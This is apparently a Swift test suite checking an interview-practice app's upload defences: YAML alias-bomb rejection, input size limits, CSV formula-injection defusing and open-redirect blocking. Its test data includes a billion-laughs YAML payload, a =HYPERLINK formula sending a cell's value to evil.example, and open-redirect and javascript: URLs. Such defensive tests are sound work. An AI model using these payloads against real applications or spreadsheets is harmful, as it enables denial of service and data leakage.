import Foundation
import MockLoopCore
import MockLoopServices
import MockLoopTestSupport
import MockLoopWeb
import Testing
import VaporTesting

/// The trust boundary for what users upload and what leaves the app: YAML expansion, question
/// bounds, CSV cells a spreadsheet would run, and where redirects may go.
@Suite struct UploadTrustTests {
    // MARK: 3. YAML alias bomb and question bounds

    @Test func aYAMLAliasBombIsRefusedBeforeItExpands() async throws {
        try await withMockLoopApp(.sqlite) { app in
            var yaml = "a: &a [x, x, x, x, x, x, x, x, x]\n"
            for (i, name) in ["b", "c", "d", "e", "f", "g"].enumerated() {
                let prev = i == 0 ? "a" : ["b", "c", "d", "e", "f", "g"][i - 1]
                yaml += "\(name): &\(name) [" + Array(repeating: "*\(prev)", count: 9).joined(separator: ", ") + "]\n"
            }
            yaml += "questions:\n  - id: bomb\n    type: coding\n    title: Bomb\n    prompt: *g\n    difficulty: easy\n"
            #expect(yaml.utf8.count < 600)
            let clock = ContinuousClock()
            let started = clock.now
            try await app.testing().test(
                .POST, "/api/v1/questions", headers: TrustTests.headers([("Content-Type", "application/yaml")]),
                body: ByteBuffer(string: yaml)
            ) { res in
                #expect(res.status == .payloadTooLarge)
                #expect(res.body.string.contains("aliases"))
            }
            // Bounded by the node budget, not by 9^7 nodes (which would take minutes and gigabytes).
            #expect(clock.now - started < .seconds(30))
            try await app.testing().test(.GET, "/api/v1/questions/bomb") { res in #expect(res.status == .notFound) }
        }
    }

    @Test func aQuestionOverItsBoundsIsRefusedNamingTheField() async throws {
        try await withMockLoopApp(.sqlite) { app in
            let cases = (0..<301).map { #"{"args": [\#($0)], "expected": \#($0)}"# }.joined(separator: ",")
            let body =
                #"{"title": "Huge", "type": "coding", "difficulty": "easy", "prompt": "p", "tests": {"mode": "function", "entryPoint": "f", "cases": [\#(cases)]}}"#
            try await app.testing().test(
                .POST, "/api/v1/questions", headers: TrustTests.headers([("Content-Type", "application/json")]),
                body: ByteBuffer(string: body)
            ) { res in
                #expect(res.status == .unprocessableEntity)
                #expect(res.body.string.contains("tests.cases") && res.body.string.contains("300"))
            }
            let long = String(repeating: "x", count: QuestionDraft.Bounds.promptCharacters + 1)
            try await app.testing().test(
                .POST, "/api/v1/questions", headers: TrustTests.headers([("Content-Type", "application/json")]),
                body: ByteBuffer(string: #"{"title": "Long", "type": "coding", "difficulty": "easy", "prompt": "\#(long)"}"#)
            ) { res in
                #expect(res.status == .unprocessableEntity)
                #expect(res.body.string.contains("\"prompt\""))
            }
        }
    }

    // MARK: 4. CSV formula injection

    @Test func theCSVExportDefusesQuotedFormulasAndReadsBackExactly() async throws {
        let formula = #"=HYPERLINK("https://evil.example/?"&A2,"open")"#
        var exported = ""
        try await withMockLoopApp(.sqlite) { app in
            for who in [formula, "+1 555", "@SUM(A1)", "-x", "'=already", "Ana"] {
                let body =
                    #"{"type": "coding", "mode": "peer", "interviewer": \#(String(data: try JSONEncoder().encode(who), encoding: .utf8)!)}"#
                try await app.testing().test(
                    .POST, "/api/v1/sessions", headers: TrustTests.headers([("Content-Type", "application/json")]),
                    body: ByteBuffer(string: body)
                ) { res in
                    #expect(res.status == .created)
                }
            }
            try await app.testing().test(.GET, "/log/export.csv") { res in exported = res.body.string }
        }
        #expect(exported.contains(#""'=HYPERLINK(""https://evil.example/?""&A2,""open"")""#), "the quoted formula is defused")
        #expect(!exported.contains(#","=HYPERLINK"#) && !exported.contains(#",""=HYPERLINK"#))
        for line in exported.split(separator: "\r\n").dropFirst() {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                let bare = cell.hasPrefix("\"") ? cell.dropFirst() : cell[...]
                if let first = bare.first, "=+@".contains(first) { Issue.record("live formula cell: \(cell)") }
            }
        }
        try await withMockLoopApp(.sqlite) { app in
            try await app.testing().test(
                .POST, "/api/v1/log/import", headers: TrustTests.headers([("Content-Type", "text/csv")]), body: ByteBuffer(string: exported)
            ) { res in
                #expect(res.status == .ok)
            }
            try await app.testing().test(.GET, "/api/v1/sessions?limit=50") { res in
                for who in [formula, "+1 555", "@SUM(A1)", "-x", "'=already", "Ana"] {
                    let encoded = String(data: try JSONEncoder().encode(who), encoding: .utf8)!
                    #expect(res.body.string.contains(encoded), "\(who) reads back exactly")
                }
            }
        }
    }

    // MARK: 5. Open redirect

    @Test func theDrillFormRedirectsOnlyToOurOwnPaths() async throws {
        try await withMockLoopApp(.sqlite) { app in
            let id = try await APITests.createSession(
                app,
                #"{"type": "behavioral", "mode": "peer", "scores": {"interviewerScores": {"quantified_outcomes": 1}, "selfScores": {}, "hintsUsed": 0, "pauses": 0, "wentEasy": false}}"#
            ).lowercased()
            let retro =
                #"{"wentWell": "Clear", "wentWrong": "No numbers", "priorityFix": {"dimension": "quantified_outcomes", "text": "Lead with the number"}, "drill": "Rewrite 3 stories with metrics"}"#
            let (rh, rb) = APITests.json(retro)
            try await app.testing().test(.POST, "/api/v1/sessions/\(id)/retro", headers: rh, body: rb) { res in
                #expect(res.status == .created)
            }
            for referer in [
                "http://x//evil.example/p", "https://evil.example/sessions", "//evil.example/", "/\\evil.example", "javascript:alert(1)",
            ] {
                var (h, b) = RequestBody.form([("done", "1")])
                h.add(name: .referer, value: referer)
                h.replaceOrAdd(name: .host, value: "127.0.0.1:8080")
                try await app.testing().test(.POST, "/sessions/\(id)/drill", headers: h, body: b) { res in
                    let location = res.headers.first(name: .location) ?? ""
                    #expect(location == "/sessions/\(id)#retro", "\(referer) → \(location)")
                }
            }
            var (h, b) = RequestBody.form([("done", "1")])
            h.add(name: .referer, value: "http://127.0.0.1:8080/log?type=coding")
            h.replaceOrAdd(name: .host, value: "127.0.0.1:8080")
            try await app.testing().test(.POST, "/sessions/\(id)/drill", headers: h, body: b) { res in
                #expect(
                    res.headers.first(name: .location) == "/log#fix-\(id)", "our own page is where the user goes back to, at the card")
            }
        }
    }
}
